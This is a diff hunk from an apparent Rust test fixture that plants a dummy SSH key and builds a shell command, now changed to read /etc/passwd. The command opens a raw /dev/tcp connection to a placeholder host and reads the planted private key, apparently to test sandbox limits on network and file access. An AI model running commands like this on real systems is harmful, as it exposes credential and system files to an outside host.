@@ -74,7 +74,7 @@ fn agent(scene: &Scene) -> (String, String) {
     let key = vault.join("id_rsa").display().to_string();
     fs::write(&key, "secret\n").unwrap();
     let script = format!(
-        "exec 3<>/dev/tcp/v4.test/7 && echo word >&3 && head -n1 <&3 > heard && cat heard /etc/hostname \
+        "exec 3<>/dev/tcp/v4.test/7 && echo word >&3 && head -n1 <&3 > heard && cat heard /etc/passwd \
          && cat {key} 2>/dev/null || true"
     );
     (script, key)
